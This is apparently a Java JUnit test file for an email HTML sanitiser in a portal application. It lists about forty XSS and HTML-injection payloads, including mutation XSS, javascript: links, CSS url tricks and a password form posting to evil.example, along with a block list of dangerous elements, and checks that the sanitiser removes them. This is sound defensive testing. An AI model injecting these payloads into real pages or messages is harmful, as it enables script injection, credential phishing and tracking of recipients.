package chancery.portal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class MailHtmlTest {
    private static final List<String> ELEMENTS_THAT_ACT = List.of(
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "meta",
            "base",
            "link",
            "svg",
            "math",
            "template",
            "noscript",
            "video",
            "audio",
            "frame",
            "select",
            "textarea",
            "applet",
            "xmp");

    static Stream<Arguments> attacks() {
        return Stream.of(
                Arguments.of("script", "<script>alert(1)</script>"),
                Arguments.of("script, odd case and slash", "<ScRiPt/x>alert(1)</sCrIpT>"),
                Arguments.of("event attribute", "<p onclick=alert(1)>x</p>"),
                Arguments.of("event attribute without space", "<img/src=x/onerror=alert(1)>"),
                Arguments.of("javascript link", "<a href=javascript:alert(1)>x</a>"),
                Arguments.of("javascript link with tab", "<a href='jav\tascript:alert(1)'>x</a>"),
                Arguments.of("javascript link with entity", "<a href='&#106;avascript:alert(1)'>x</a>"),
                Arguments.of("javascript link with control", "<a href='\u0001javascript:alert(1)'>x</a>"),
                Arguments.of("vbscript", "<a href='vbscript:msgbox(1)'>x</a>"),
                Arguments.of("data link", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
                Arguments.of("data picture that is SVG", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"),
                Arguments.of("javascript picture", "<img src='javascript:alert(1)'>"),
                Arguments.of("svg onload", "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>"),
                Arguments.of("svg style import", "<svg><style>@import 'https://evil.example/x'</style></svg>"),
                Arguments.of(
                        "math mutation",
                        "<math><mtext><table><mglyph><style><!--</style>"
                                + "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
                Arguments.of("noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
                Arguments.of("template", "<template><img src=x onerror=alert(1)></template>"),
                Arguments.of("css expression", "<p style='width:expression(alert(1))'>x</p>"),
                Arguments.of("css url", "<p style='background:url(https://evil.example/t.gif)'>x</p>"),
                Arguments.of("css url escaped", "<p style='background-image:\\75rl(https://evil.example/t.gif)'>x</p>"),
                Arguments.of("css behaviour", "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>"),
                Arguments.of("css position over the page", "<p style='position:fixed;top:0;left:0;z-index:9'>x</p>"),
                Arguments.of("style element", "<style>body{background:url(https://evil.example/t)}</style>x"),
                Arguments.of("meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
                Arguments.of("base", "<base href='https://evil.example/'><a href='/x'>x</a>"),
                Arguments.of("form", "<form action='https://evil.example'><input name=password type=password></form>"),
                Arguments.of("button formaction", "<button formaction=javascript:alert(1)>x</button>"),
                Arguments.of("iframe srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
                Arguments.of("object", "<object data='https://evil.example/x.swf'></object>"),
                Arguments.of("link prefetch", "<link rel=prefetch href='https://evil.example/x'>"),
                Arguments.of("srcset", "<img srcset='https://evil.example/x 1x'>"),
                Arguments.of("background attribute", "<table background='https://evil.example/x'><tr><td>x</table>"),
                Arguments.of("video poster", "<video poster='https://evil.example/x' src=x></video>"),
                Arguments.of("comment trick", "<!--><img src=x onerror=alert(1)>-->"),
                Arguments.of("conditional comment", "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->"),
                Arguments.of("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
                Arguments.of("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
                Arguments.of("unclosed attribute", "<img src=\"x\" alt=\"`onerror=alert(1) "),
                Arguments.of("id clobbering", "<a id=cookie name=location href=https://ok.example>x</a>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void nothingThatActsSurvives(String name, String html) {
        MailHtml.Safe safe = MailHtml.rebuild(html + "<p>end", Map.of(), false);
        Element body = Jsoup.parse(safe.markup()).body();
        for (Element element : body.getAllElements()) {
            assertThat(ELEMENTS_THAT_ACT).as(safe.markup()).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                harmless(safe.markup(), attribute);
            }
        }
    }

    private static void harmless(String markup, Attribute attribute) {
        String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
        assertThat(attribute.getKey()).as(markup).doesNotStartWith("on").isNotIn("id", "name", "srcset", "background");
        assertThat(value).as(markup).doesNotContain("javascript:", "vbscript:", "expression(", "url(", "fixed", "svg");
        if (attribute.getKey().equals("src")) {
            assertThat(value).as(markup).isEmpty();
        }
    }

    @Test
    void lettersKeepTheirShape() {
        String html =
                "<p style=\"color:#333;margin:0\">Dear <b>Ms Ng</b>,</p><table><tr><td bgcolor=\"#eeeeee\">1</td></tr>"
                        + "</table><a href=\"https://clinic.example/a?b=1&amp;c=2\">link</a>";
        MailHtml.Safe safe = MailHtml.rebuild(html, Map.of(), false);
        assertThat(safe.markup())
                .contains("<b>Ms Ng</b>", "color:#333", "<td bgcolor=\"#eeeeee\">", "target=\"_blank\"", "noopener");
        assertThat(Jsoup.parse(safe.markup()).select("a").attr("href")).isEqualTo("https://clinic.example/a?b=1&c=2");
    }

    @Test
    void picturesFromElsewhereWaitForTheClick() {
        String html =
                "<img src='http://t.example/a.png'><img src='//t.example/b.png'><img src='cid:c1'><img src='cid:no'>";
        Map<String, String> pictures = Map.of("c1", "data:image/png;base64,AAAA");
        MailHtml.Safe closed = MailHtml.rebuild(html, pictures, false);
        assertThat(closed.remoteHeldBack()).isEqualTo(2);
        assertThat(closed.markup()).contains("data:image/png;base64,AAAA").doesNotContain("t.example");
        MailHtml.Safe open = MailHtml.rebuild(html, pictures, true);
        assertThat(open.remoteHeldBack()).isZero();
        assertThat(open.markup()).contains("https://t.example/a.png", "https://t.example/b.png");
    }

    @Test
    void hugeAndDeepHtmlEnds() {
        MailHtml.Safe safe = MailHtml.rebuild("<div>".repeat(600_000), Map.of(), false);
        assertThat(safe.cut()).isTrue();
        assertThat(MailHtml.rebuild("<b><i>".repeat(20_000) + "x", Map.of(), false)
                        .markup())
                .contains("x");
    }

    @Test
    void wordsKeepParagraphs() {
        assertThat(MailHtml.words("<p>One</p><p>Two<br>Three</p><script>no</script>"))
                .isEqualTo("One\n\nTwo\nThree".replace("\n\n", "\n"));
    }
}
